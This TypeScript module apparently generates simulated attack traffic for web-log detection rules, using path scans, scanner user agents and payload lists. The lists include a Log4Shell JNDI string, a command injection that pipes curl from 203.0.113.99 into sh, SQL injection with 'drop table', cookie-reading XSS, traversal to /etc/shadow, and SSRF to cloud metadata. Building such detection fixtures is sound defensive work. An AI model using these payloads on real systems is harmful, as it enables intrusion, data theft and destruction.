import { call, minutes, seconds, type Planner } from './plan.js';

const directories = [
  'old',
  'backup',
  'test',
  'dev',
  'staging',
  'v0',
  'beta',
  'private',
  'tmp',
  'logs',
  'db',
  'upload',
  'console',
  'portal',
  'debug',
  'swagger',
  'graphql',
  'metrics',
  'health',
  'export',
];

function scan(kind: string, rules: readonly string[], count: number, span: number): Planner {
  return {
    plan: ({ random, cast }) => {
      const [address, agent] = [cast.address(), cast.agent()];
      const suffix = random.int(1000);
      return {
        kind,
        rules,
        who: { address },
        count,
        span,
        line: (index) => call({ address, agent, target: `/${directories[index % directories.length]}/${suffix}-${index}`, status: 404 }),
      };
    },
  };
}

const tools = [
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project)',
  'gobuster/3.6',
  'WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)',
  'Mozilla/5.0 zgrab/0.x',
];

const tool: Planner = {
  plan: ({ random, cast }) => {
    const [address, agent] = [cast.address(), random.pick(tools)];
    return {
      kind: 'attack_tool',
      rules: ['attack_tool', 'attack_tool_burst'],
      who: { address },
      count: random.between(20, 40),
      span: minutes(3),
      line: (index) => call({ address, agent, target: `/api/v1/products/${index}`, bytes: 900 }),
    };
  },
};

const agentPayload: Planner = {
  plan: ({ cast }) => {
    const address = cast.address();
    const agent = '${jndi:ldap://203.0.113.99:1389/Basic/Command}';
    return {
      kind: 'log4shell',
      rules: ['log4shell', 'injection_burst'],
      who: { address },
      count: 5,
      span: minutes(2),
      line: () => call({ address, agent, bytes: 512 }),
    };
  },
};

const answeredFile: Planner = {
  plan: ({ cast }) => {
    const [address, agent] = [cast.address(), cast.agent()];
    return {
      kind: 'sensitive_file_answered',
      rules: ['sensitive_file', 'sensitive_file_answered'],
      who: { address },
      count: 3,
      span: seconds(30),
      line: (index) => call({ address, agent, target: ['/.git/config', '/.env', '/backup.sql'][index]!, status: index === 1 ? 200 : 404 }),
    };
  },
};

function payloads(kind: string, path: string, values: readonly string[]): Planner {
  return {
    plan: ({ random, cast }) => {
      const [address, agent] = [cast.address(), cast.agent()];
      const first = random.int(values.length);
      return {
        kind,
        rules: [kind, 'injection_burst'],
        who: { address },
        count: 10,
        span: minutes(4),
        line: (index) =>
          call({
            address,
            agent,
            target: path + encodeURIComponent(values[(first + index) % values.length]!).replaceAll("'", '%27'),
            bytes: 5120,
          }),
      };
    },
  };
}

/** Scans, tools, and payloads that look for a hole. */
export const probeAttacks: readonly Planner[] = [
  scan('path_scan', ['path_scan'], 36, seconds(240)),
  scan('path_scan_fast', ['path_scan', 'path_scan_fast'], 40, seconds(8)),
  scan('path_scan_heavy', ['path_scan', 'path_scan_heavy'], 320, seconds(500)),
  tool,
  agentPayload,
  answeredFile,
  payloads('sql_injection', '/api/v1/search?q=', [
    "1' or '1'='1",
    "x' union select 1,name,pass from users--",
    '1 and sleep(5)',
    "1'; drop table orders--",
    '1) or 7=7 order by 1#',
  ]),
  payloads('cross_site_scripting', '/api/v1/search?q=', [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<svg/onload=fetch(1)>',
    'javascript:document.cookie',
  ]),
  payloads('path_traversal', '/api/v1/files?name=', [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//etc/shadow',
    '/proc/self/environ',
  ]),
  payloads('command_injection', '/api/v1/ping?host=', [
    '127.0.0.1;id',
    '8.8.8.8|cat /etc/hosts',
    '`whoami`',
    '1 && curl http://203.0.113.99/x|sh',
  ]),
  payloads('template_injection', '/api/v1/mail?subject=', ['{{7*7}}', "{{''.__class__.__mro__}}", '${7*7}', '<%= 7*7 %>']),
  payloads('php_injection', '/api/v1/page?view=', [
    'php://filter/convert.base64-encode/resource=index',
    'phar://upload.jpg/x',
    'expect://id',
    ';phpinfo()',
  ]),
  payloads('server_side_request', '/api/v1/fetch?url=', [
    'http://169.254.169.254/latest/meta-data/',
    'http://localhost:8080/admin',
    'gopher://127.0.0.1:6379/_INFO',
    'http://127.0.0.1/',
  ]),
];
